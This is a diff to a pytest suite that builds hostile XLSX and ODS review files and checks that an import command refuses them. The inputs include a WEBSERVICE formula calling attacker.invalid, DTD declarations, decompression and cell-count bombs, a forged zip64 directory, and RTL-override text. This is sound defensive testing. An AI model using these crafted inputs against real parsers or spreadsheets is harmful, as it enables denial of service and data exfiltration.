@@ -22,6 +22,7 @@ import pytest
 
 from attacks.hostile import (
     HYPERLINK,
+    MAIN_NS,
     POLICY,
     REL_NS,
     Book,
@@ -141,10 +142,10 @@ def _traversal_id(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]
 # ---- 13: invisible and bidirectional characters
 
 
-@case("13-right-to-left-override-in-a-cell", r"Matrice!E2\b.*U\+202E")
+@case("13-right-to-left-override-in-a-cell", r"Matrice![EF]2\b.*U\+202E")
 def _rtl(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
-    text = book.cell_text("Matrice", "E2")
-    book.set_cell("Matrice", "E2", text.replace("act.com", "\u202emoc.tca"))
+    text = book.cell_text("Matrice", book.french(2))
+    book.set_cell("Matrice", book.french(2), text.replace("act.com", "\u202emoc.tca"))
     return _save(book, tmp)
 
 
@@ -264,7 +265,7 @@ def _duplicate_entry(book: Book, project: Path, tmp: Path) -> tuple[Path, list[s
 
 def _test_cell(book: Book, text: str) -> None:
     row = book.row_of("Conditions", "eligibility-active-subscription")
-    book.set_cell("Conditions", f"E{row}", text)
+    book.set_cell("Conditions", f"{book.col('Conditions', 'Test')}{row}", text)
 
 
 @case("16a-test-cell-invalid-escape", r"Conditions!E\d+: cannot read")
@@ -332,15 +333,42 @@ def _bad_utf8(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
     return _save(book, tmp)
 
 
-@case("18e-lone-surrogate-escape-in-a-text", r"Matrice!E2: .*_xD800_")
+@case("18e-lone-surrogate-escape-in-a-text", r"Matrice![EF]2: .*_xD800_")
 def _surrogate_text(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
-    book.set_cell("Matrice", "E2", book.cell_text("Matrice", "E2") + " _xD800_")
+    book.set_cell("Matrice", book.french(2), book.cell_text("Matrice", book.french(2)) + " _xD800_")
     return _save(book, tmp)
 
 
-@case("18f-lone-surrogate-escape-in-a-comment", r"Matrice!Q2: .*_xD800_")
+@case("18f-lone-surrogate-escape-in-a-comment", r"Matrice![QR]2: .*_xD800_")
 def _surrogate_comment(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
-    book.set_cell("Matrice", "Q2", "voir _xD800_ ici")
+    book.set_cell("Matrice", f"{book.col('Matrice', 'Commentaire du relecteur')}2", "voir _xD800_ ici")
+    return _save(book, tmp)
+
+
+@case("18f-lone-surrogate-escape-in-a-note", r"Matrice!B2: .*_xD800_")
+def _surrogate_note(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
+    """A note (cell comment) on an untouched row: the import has only the note to record, in the
+    review log beside the policy, which no file can hold it in."""
+    part = book.sheet_part("Matrice")
+    rels = part.replace("worksheets/", "worksheets/_rels/") + ".rels"
+    book.set(
+        rels,
+        (
+            b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+            b'<Relationship Id="rIdNote1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/comments" Target="../comments1.xml"/>'
+            b"</Relationships>"
+        ),
+    )
+    book.set(
+        "xl/comments1.xml",
+        (
+            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><comments xmlns="{MAIN_NS}">'
+            "<authors><author>Relecteur</author></authors><commentList>"
+            '<comment ref="B2" authorId="0"><text><t>voir _xD800_ ici</t></text></comment>'
+            "</commentList></comments>"
+        ).encode(),
+    )
     return _save(book, tmp)
 
 
@@ -358,7 +386,7 @@ def _superscript(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]
     r"review\.xlsx: Meta: the export snapshot is not a policy as exported",
 )
 def _snapshot_shape(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
-    book.set_cell("Matrice", "E2", TEXT_A)
+    book.set_cell("Matrice", book.french(2), TEXT_A)
     snapshot = load_policy(project)
     del snapshot["general_terms"]
     raw = canonical(snapshot)
@@ -412,34 +440,131 @@ def _shared_strings(book: Book) -> None:
     )
 
 
-@case("20d-shared-string-minus-one", r"Matrice!E2: the cell refers to shared string '-1'")
+@case("20d-shared-string-minus-one", r"Matrice![EF]2: the cell refers to shared string '-1'")
 def _minus_one(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
     _shared_strings(book)
-    book.set_cell("Matrice", "E2", raw='<c r="E2" t="s"><v>-1</v></c>')
+    ref = book.french(2)
+    book.set_cell("Matrice", ref, raw=f'<c r="{ref}" t="s"><v>-1</v></c>')
     return _save(book, tmp)
 
 
-@case("n-shared-string-index-with-an-underscore", r"Matrice!E2: the cell refers to shared string '0_1'")
+@case("n-shared-string-index-with-an-underscore", r"Matrice![EF]2: the cell refers to shared string '0_1'")
 def _underscore(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
     _shared_strings(book)
-    book.set_cell("Matrice", "E2", raw='<c r="E2" t="s"><v>0_1</v></c>')
+    ref = book.french(2)
+    book.set_cell("Matrice", ref, raw=f'<c r="{ref}" t="s"><v>0_1</v></c>')
     return _save(book, tmp)
 
 
 @case("20e-forged-row-checksum", r"Meta: the row checksums are not those of the exported policy")
 def _forged_checksum(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
-    document = load_policy(project)
-    item = document["categories"][0]["items"][0]  # desktop-setup-kb-pages, on row 2
-    book.set_cell("Matrice", "E2", TEXT_A)
-    sums = json.loads(unpack(book.meta_chunks("checksums")))
+    item = load_policy(project)["categories"][0]["items"][0]  # desktop-setup-kb-pages, on row 2
+    # The checksum the edited row would have: every column the export wrote but the comment, in
+    # order, as written (the layout of the version under test), the French text replaced.
+    written = book.row_values("Matrice", 2)
+    book.set_cell("Matrice", book.french(2), TEXT_A)
+    written[book.col("Matrice", "Texte (fr)")] = TEXT_A
+    assert written[book.col("Matrice", "Id ")] == item["id"]
     values: list[str | int | None] = [
-        document["categories"][0]["id"], item["id"], item["status"], item.get("tier"), TEXT_A,
-        item["text"]["en"], item.get("group"), None, None, None, None, None, None, None,
-        (item.get("source_note") or {}).get("fr"), (item.get("source_note") or {}).get("en"),
-    ]  # fmt: skip
+        written.get(letter)
+        for header, letter in sorted(
+            book.headers("Matrice").items(), key=lambda pair: (len(pair[1]), pair[1])
+        )
+        if not header.startswith("Commentaire du relecteur")
+    ]
+    sums = json.loads(unpack(book.meta_chunks("checksums")))
     sums["Matrice"][item["id"]] = row_checksum(values)
     book.set_meta_chunks("checksums", pack(canonical(sums)))
     return _save(book, tmp)
+
+
+# ---- the same guards for an .ods (LibreOffice's own format, read since issue 11)
+
+
+def _ods(book: Book, tmp: Path, **changes: Any) -> tuple[Path, list[str]]:
+    return book.to_ods(tmp / "review.ods", **changes), ["--into", POLICY]
+
+
+def _in_matrix(extra: str) -> Callable[[str, list[str]], list[str]]:
+    """Append ``extra`` (ODS rows) to the Matrice sheet."""
+
+    def rows(sheet: str, sheet_rows: list[str]) -> list[str]:
+        return [*sheet_rows, extra] if sheet == "Matrice" else sheet_rows
+
+    return rows
+
+
+@case("ods-9-merged-ranges-without-end", r"sheet 'Matrice' holds more than 10,000 merged ranges")
+def _ods_merged(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
+    cell = '<table:table-cell table:number-rows-spanned="2" office:value-type="string"><text:p>x</text:p></table:table-cell>'
+    return _ods(book, tmp, rows=_in_matrix(f"<table:table-row>{cell * 1000}</table:table-row>" * 11))
+
+
+@case("ods-9-notes-repeated-without-end", r"more than 8,000,000 filled cells \(repeated cells and notes")
+def _ods_notes(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
+    note = "<office:annotation><dc:creator>A</dc:creator><text:p>vu</text:p></office:annotation>"
+    row = (
+        '<table:table-row table:number-rows-repeated="200000">'
+        f'<table:table-cell table:number-columns-repeated="1000">{note}</table:table-cell></table:table-row>'
+    )
+    return _ods(book, tmp, rows=_in_matrix(row))
+
+
+@case("ods-9-spaces-written-as-a-count", r"Matrice!B\d+: more than 32,767 characters in one cell")
+def _ods_spaces(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
+    # 100,000 times "10,000 spaces": 2.4 MB of XML, a gigabyte of text.
+    spaces = '<text:s text:c="10000"/>' * 100_000
+    row = f'<table:table-row><table:table-cell/><table:table-cell office:value-type="string"><text:p>{spaces}</text:p></table:table-cell></table:table-row>'
+    return _ods(book, tmp, rows=_in_matrix(row))
+
+
+@case("ods-14-dtd-after-a-long-comment", r"content\.xml declares a DTD")
+def _ods_dtd(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
+    dtd = "<!-- " + "x" * 8000 + ' --><!DOCTYPE d [<!ENTITY a "aaaaaaaa">]>'
+    return _ods(
+        book,
+        tmp,
+        content=lambda xml: xml.replace("<office:document-content", dtd + "<office:document-content", 1),
+    )
+
+
+@case("ods-14-dtd-in-another-part", r"styles\.xml declares a DTD")
+def _ods_dtd_styles(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
+    styles = ("<!-- " + "x" * 8000 + ' --><!DOCTYPE d [<!ENTITY a "a">]><office:document-styles/>').encode()
+    return _ods(book, tmp, parts=[("styles.xml", styles)])
+
+
+@case("ods-14-formula-in-the-read-me", r"Lisez-moi!A1: a formula in a sheet nobody edits")
+def _ods_formula(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
+    formula = '<table:table-row><table:table-cell table:formula="of:=WEBSERVICE(&quot;https://attacker.invalid&quot;)" office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row>'
+
+    def rows(sheet: str, sheet_rows: list[str]) -> list[str]:
+        return [formula, *sheet_rows[1:]] if sheet == "Lisez-moi" else sheet_rows
+
+    return _ods(book, tmp, rows=rows)
+
+
+@case("ods-14-content-twice", r"the archive holds content\.xml twice")
+def _ods_twice(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
+    other = tmp / "other.ods"
+    book.to_ods(other)
+    import zipfile
+
+    with zipfile.ZipFile(other) as archive:
+        second = archive.read("content.xml").replace(b"Base de Connaissances", b"base de connaissances")
+    return _ods(book, tmp, parts=[("content.xml", second)])
+
+
+@case("ods-18-damaged-content", r"content\.xml cannot be read \(.*\); the archive is damaged")
+def _ods_bad_crc(book: Book, project: Path, tmp: Path) -> tuple[Path, list[str]]:
+    path, extra = _ods(book, tmp)
+
+    def patch(buffer: bytearray, local: int, central: int, data: int) -> None:
+        for offset in (local + 14, central + 16):  # its CRC-32, in both headers
+            buffer[offset] ^= 0xFF
+
+    path.write_bytes(patch_zip(path.read_bytes(), "content.xml", patch))
+    return path, extra
 
 
 # --------------------------------------------------------------------------- the test
@@ -475,8 +600,9 @@ def test_zlib_bomb_inflates_no_further_than_a_bound(
     assert peak < 128 << 20, f"peak {peak >> 20} MiB"
 
 
+@pytest.mark.parametrize("file_name", ["entries.xlsx", "entries.ods"])
 def test_a_forged_zip_directory_is_refused_before_it_is_read(
-    project: Path, tmp_path: Path, run_cli: Any
+    file_name: str, project: Path, tmp_path: Path, run_cli: Any
 ) -> None:
     """n: a central directory of 200,000 entries is refused from its end record, before zipfile
     builds an object for each (seconds and hundreds of MB for a million)."""
@@ -493,7 +619,7 @@ def test_a_forged_zip_directory_is_refused_before_it_is_read(
     end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, len(directory), 0, 0)
     zip64_end = struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, len(directory), 0)
     locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, len(directory), 1)
-    path = tmp_path / "entries.xlsx"
+    path = tmp_path / file_name
     path.write_bytes(directory + zip64_end + locator + end)
     tracemalloc.start()
     try:
@@ -507,9 +633,12 @@ def test_a_forged_zip_directory_is_refused_before_it_is_read(
 
 
 @pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no named pipes on this system")
-def test_a_workbook_that_is_a_pipe_is_refused_at_once(project: Path, tmp_path: Path, run_cli: Any) -> None:
-    """18: a FIFO named review.xlsx (opening it would wait forever for a writer)."""
-    path = tmp_path / "review.xlsx"
+@pytest.mark.parametrize("name", ["review.xlsx", "review.ods"])
+def test_a_workbook_that_is_a_pipe_is_refused_at_once(
+    name: str, project: Path, tmp_path: Path, run_cli: Any
+) -> None:
+    """18: a FIFO named review.xlsx or review.ods (opening it would wait forever for a writer)."""
+    path = tmp_path / name
     os.mkfifo(path)
     result = run_cli("import-xlsx", str(path), "--into", POLICY)
     assert result.exit_code == 1, result.output
@@ -522,7 +651,7 @@ def test_what_reviewers_do_is_still_accepted(
     """The guards refuse the hostile, not the ordinary: an edited text with a web hyperlink on it
     is imported and written."""
     book = Book(exported)
-    book.set_cell("Matrice", "E2", TEXT_A)
+    book.set_cell("Matrice", book.french(2), TEXT_A)
     _hyperlink(book, "https://www.act.com/fr-fr/support")
     path = book.save(tmp_path / "review.xlsx")
     result = run_cli("import-xlsx", str(path), "--into", POLICY)
